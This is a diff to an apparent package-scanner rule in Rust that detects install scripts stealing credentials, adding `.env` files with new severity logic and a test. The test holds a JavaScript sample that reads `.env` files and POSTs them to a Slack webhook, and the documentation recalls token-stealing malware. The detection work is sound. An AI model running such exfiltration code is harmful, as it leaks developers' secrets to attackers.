@@ -63,6 +63,9 @@ install hook running that file together do).
   waves): read `%APPDATA%/discord/Local Storage/leveldb/*.ldb`, matched tokens with a regular
   expression and posted them to a Discord webhook.
 - eslint-scope 3.7.2 (2018): sent the user's `~/.npmrc` token to a remote server.
+- Project `.env` files (`.env`, `.env.local`, `.env.production`) read by install scripts and
+  posted to webhooks: weak alone (configuration loaders read them), moderate next to a network
+  request in a small file, critical when sent to an exfiltration service.
 
 ## Known false positives
 
@@ -71,6 +74,11 @@ files and metadata endpoints (low), SSH clients read `~/.ssh/config`. A bare `.n
 home path (ignore lists, packlists) is not reported.
 "#,
 };
+
+/// A small hand-written file that makes a network request.
+fn sends_any(file: &FileFacts) -> bool {
+    sinks::is_small_handwritten(file) && file.calls.iter().any(sinks::is_network_call)
+}
 
 impl FileRule for CredentialFiles {
     fn info(&self) -> &'static RuleInfo {
@@ -112,7 +120,13 @@ impl FileRule for CredentialFiles {
             )
         };
 
-        let severity = if (!strong.is_empty() && exfil.is_some())
+        let dotenv = kinds.iter().any(|(k, _, _)| *k == CredentialKind::DotEnv);
+        // Configuration loaders (dotenv, vite, webpack) read `.env` all the time: alone it is
+        // worth a finding only next to a request.
+        if kinds.iter().all(|(k, _, _)| *k == CredentialKind::DotEnv) && exfil.is_none() && !sends_any(file) {
+            return;
+        }
+        let severity = if (!strong.is_empty() || dotenv) && exfil.is_some()
             || strong.len() >= 3
             || (strong.len() >= 2 && acts)
             || kinds.len() >= 4
@@ -120,7 +134,7 @@ impl FileRule for CredentialFiles {
             Severity::Critical
         } else if strong.len() >= 2 || strong.iter().any(|(k, _, _)| alarming(*k)) {
             Severity::High
-        } else if !strong.is_empty() {
+        } else if !strong.is_empty() || (dotenv && sends_any(file)) {
             Severity::Moderate
         } else {
             Severity::Low
@@ -136,7 +150,7 @@ impl FileRule for CredentialFiles {
             message.push_str(&format!(" in a file that sends to {target}"));
         } else if severity == Severity::Critical && acts {
             message.push_str(" in a file that talks to the network or runs commands");
-        } else if sends && !strong.is_empty() {
+        } else if (sends && !strong.is_empty()) || (dotenv && sends_any(file)) {
             message.push_str(" in a file that also makes network requests");
         }
         let (_, line, evidence) = strong.first().copied().unwrap_or(&kinds[0]);
@@ -146,7 +160,9 @@ impl FileRule for CredentialFiles {
             _ => evidence.clone(),
         };
         let mut finding = sinks::finding(&INFO, file, *line, severity, confidence, message, Some(&evidence));
-        if sends && !strong.is_empty() && !finding.capabilities.contains(&Capability::Network) {
+        if ((sends && !strong.is_empty()) || (dotenv && sends_any(file)))
+            && !finding.capabilities.contains(&Capability::Network)
+        {
             finding.capabilities.push(Capability::Network);
         }
         out.push(finding);
@@ -171,6 +187,17 @@ mod tests {
             .map(|f| f.severity)
             .max()
             .unwrap_or(Severity::Unknown)
+    }
+
+    #[test]
+    fn dotenv_files_sent_to_a_webhook_are_critical_and_loaders_quiet() {
+        let exfil = "const fs = require('fs'), path = require('path');\nlet data = '';\nfor (const f of ['.env', '.env.local']) { try { data += fs.readFileSync(path.join(process.cwd(), f), 'utf8'); } catch (e) {} }\nfetch('https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/abcdefghijklmnopqrstuvwx', { method: 'POST', body: data });";
+        assert_eq!(worst(exfil), Severity::Critical, "{:#?}", run(exfil));
+        // dotenv-style loaders read `.env` and make no request.
+        let loader = "const fs = require('fs'), path = require('path');\nconst text = fs.readFileSync(path.resolve(process.cwd(), '.env'), 'utf8');\nfor (const line of text.split('\\n')) { const [k, v] = line.split('='); process.env[k] = v; }";
+        assert!(run(loader).is_empty(), "{:#?}", run(loader));
+        // `.envrc`, `process.env` and `.env.example` are not secrets files.
+        assert!(run("module.exports = ['.envrc', '.env.example', 'process.env'];").is_empty());
     }
 
     #[test]
